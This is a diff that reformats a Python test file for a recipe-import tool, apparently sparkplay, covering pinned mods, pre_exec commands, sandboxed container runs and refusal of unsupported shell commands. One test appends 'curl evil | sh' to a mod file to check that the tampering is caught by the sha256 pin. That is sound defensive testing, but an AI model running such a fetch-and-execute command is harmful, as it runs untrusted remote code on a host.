@@ -31,10 +31,12 @@ PATCH = "--- a/x.py\n+++ b/x.py\n@@ -1 +1 @@\n-old\n+new\n"
 def registry(root: Path, mod_at: str = "official-mods") -> Path:
     """A registry checkout: its config, a recipe in official-recipes/, a mod in `mod_at`; the recipe's path."""
     (root / ".sparkrun").mkdir(parents=True)
-    config = {"registries": [
-        {"name": "official", "recipes": "official-recipes", "mods": "official-mods"},
-        {"name": "experimental", "recipes": "experimental-recipes", "mods": "exp-mods"},
-    ]}  # fmt: skip
+    config = {
+        "registries": [
+            {"name": "official", "recipes": "official-recipes", "mods": "official-mods"},
+            {"name": "experimental", "recipes": "experimental-recipes", "mods": "exp-mods"},
+        ]
+    }
     (root / ".sparkrun" / "registry.yaml").write_text(yaml.safe_dump(config))
     mod = root / mod_at / "fix-parser"
     (mod / "patches").mkdir(parents=True)
@@ -43,11 +45,20 @@ def registry(root: Path, mod_at: str = "official-mods") -> Path:
     (mod / "patches" / "parser.patch").write_text(PATCH)
     recipe = root / "official-recipes" / "qwen" / "qwen3-vllm.yaml"
     recipe.parent.mkdir(parents=True, exist_ok=True)
-    recipe.write_text(yaml.safe_dump({
-        "recipe_version": "2", "model": "Qwen/Qwen3-30B-A3B", "runtime": "vllm",
-        "container": "vllm/vllm-openai:v0.11.0", "max_nodes": 1, "mods": ["mods/fix-parser"],
-        "defaults": {"port": 8000}, "command": "vllm serve {model} --port {port}",
-    }))  # fmt: skip
+    recipe.write_text(
+        yaml.safe_dump(
+            {
+                "recipe_version": "2",
+                "model": "Qwen/Qwen3-30B-A3B",
+                "runtime": "vllm",
+                "container": "vllm/vllm-openai:v0.11.0",
+                "max_nodes": 1,
+                "mods": ["mods/fix-parser"],
+                "defaults": {"port": 8000},
+                "command": "vllm serve {model} --port {port}",
+            }
+        )
+    )
     return recipe
 
 
@@ -115,7 +126,9 @@ def test_the_plan_runs_a_mod_only_where_the_inventory_allows_it_and_only_as_pinn
     (mount,) = [m for m in rank["mounts"] if m["target"] == plan_mods.MOUNT]
     assert mount["readonly"] and mount["source"].startswith("/var/lib/sparkplay/mods/")
     assert sorted(f["path"].removeprefix(mount["source"]) for f in rank["files"]) == [
-        "/00-fix-parser/patches/parser.patch", "/00-fix-parser/run.sh"]  # fmt: skip
+        "/00-fix-parser/patches/parser.patch",
+        "/00-fix-parser/run.sh",
+    ]
     edited = json.loads(json.dumps(doc))
     edited["engine"]["mods"][0]["files"][0]["text"] += "curl evil | sh\n"
     with pytest.raises(BadInput, match="do not hash to the sha256 the recipe pins"):
@@ -151,9 +164,29 @@ def in_container(rank: dict, host: Path, engine: list[str]) -> subprocess.Comple
         path.write_text(f["content"])
         path.chmod(int(f["mode"], 8))
     tag, _ = image.ensure_image(image.ImageRecipe())
-    return subprocess.run(["docker", "run", "--rm", "--network", "none", "-w", "/srv", "-v",
-                           f"{host}:{plan_mods.MOUNT}:ro", "--entrypoint", "/bin/sh", tag, "-c", plan_mods.WRAPPER,
-                           *engine], capture_output=True, text=True, timeout=120, check=False)  # fmt: skip
+    return subprocess.run(
+        [
+            "docker",
+            "run",
+            "--rm",
+            "--network",
+            "none",
+            "-w",
+            "/srv",
+            "-v",
+            f"{host}:{plan_mods.MOUNT}:ro",
+            "--entrypoint",
+            "/bin/sh",
+            tag,
+            "-c",
+            plan_mods.WRAPPER,
+            *engine,
+        ],
+        capture_output=True,
+        text=True,
+        timeout=120,
+        check=False,
+    )
 
 
 @pytest.mark.usefixtures("lab_host")
@@ -204,8 +237,10 @@ def test_a_hand_written_mod_path_that_leaves_its_folder_is_refused_before_anythi
 
 # -- pre_exec: the recipe's own commands, before its mods ------------------------------------------------------
 
-PRE_EXEC = ["mkdir -p /tmp/sparkplay-pre && echo 'pre for {model}' > /tmp/sparkplay-pre/ran",
-            "echo \"cwd $PWD, ${HOME:-nohome} {unknown}\" >> /tmp/sparkplay-pre/ran"]  # fmt: skip
+PRE_EXEC = [
+    "mkdir -p /tmp/sparkplay-pre && echo 'pre for {model}' > /tmp/sparkplay-pre/ran",
+    'echo "cwd $PWD, ${HOME:-nohome} {unknown}" >> /tmp/sparkplay-pre/ran',
+]
 
 
 def with_pre_exec(recipe: Path, entries: list) -> Path:
@@ -233,10 +268,13 @@ def test_pre_exec_is_rendered_pinned_and_runs_only_where_the_inventory_allows_it
         plan_of(edited, [mod_allow(doc), allow])
 
 
-@pytest.mark.parametrize(("entries", "why"), [
-    ([{"copy": {"src": "~/patch.py", "dest": "/workspace/patch.py"}}], "copies a file from the control machine"),
-    ("mkdir /x", "must be a list of commands"),
-])  # fmt: skip
+@pytest.mark.parametrize(
+    ("entries", "why"),
+    [
+        ([{"copy": {"src": "~/patch.py", "dest": "/workspace/patch.py"}}], "copies a file from the control machine"),
+        ("mkdir /x", "must be a list of commands"),
+    ],
+)
 def test_a_pre_exec_sparkplay_cannot_carry_stays_not_honoured_saying_why(tmp_path, entries, why):
     doc = importing.import_source(str(with_pre_exec(registry(tmp_path), entries)))
     assert "pre_exec" not in doc["engine"]
@@ -268,8 +306,18 @@ def test_the_wrapper_runs_pre_exec_then_the_mods_then_the_engine(tmp_path):
 
 def recipe_with(tmp_path: Path, command: str, runtime: str = "vllm") -> Path:
     path = tmp_path / "r.yaml"
-    path.write_text(yaml.safe_dump({"recipe_version": "2", "model": "org/m", "runtime": runtime, "max_nodes": 1,
-                                    "container": "vllm/vllm-openai:v0.20.0", "command": command}))  # fmt: skip
+    path.write_text(
+        yaml.safe_dump(
+            {
+                "recipe_version": "2",
+                "model": "org/m",
+                "runtime": runtime,
+                "max_nodes": 1,
+                "container": "vllm/vllm-openai:v0.20.0",
+                "command": command,
+            }
+        )
+    )
     return path
 
 
@@ -286,13 +334,16 @@ def test_a_command_that_installs_or_fetches_before_the_engine_is_a_pinned_reques
     assert any(f["path"].endswith("/" + plan_mods.PREAMBLE) for f in rank["files"])
 
 
-@pytest.mark.parametrize(("command", "runtime"), [
-    ("export PATH=/usr/local/cuda/bin:$PATH && vllm serve {model}", "vllm"),  # the shell would expand it
-    ("cd /workspace && vllm serve {model}", "vllm"),
-    ("(pip install x) && vllm serve {model}", "vllm"),
-    ("pip install x && llama-server -m /m/x.gguf", "llama-cpp"),  # no container to run it in
-    ("vllm serve {model} && echo done", "vllm"),  # the engine is not the last command
-])  # fmt: skip
+@pytest.mark.parametrize(
+    ("command", "runtime"),
+    [
+        ("export PATH=/usr/local/cuda/bin:$PATH && vllm serve {model}", "vllm"),  # the shell would expand it
+        ("cd /workspace && vllm serve {model}", "vllm"),
+        ("(pip install x) && vllm serve {model}", "vllm"),
+        ("pip install x && llama-server -m /m/x.gguf", "llama-cpp"),  # no container to run it in
+        ("vllm serve {model} && echo done", "vllm"),  # the engine is not the last command
+    ],
+)
 def test_what_cannot_be_carried_before_the_engine_stays_refused(tmp_path, command, runtime):
     with pytest.raises(BadInput, match="shell"):
         importing.import_source(str(recipe_with(tmp_path, command, runtime)))
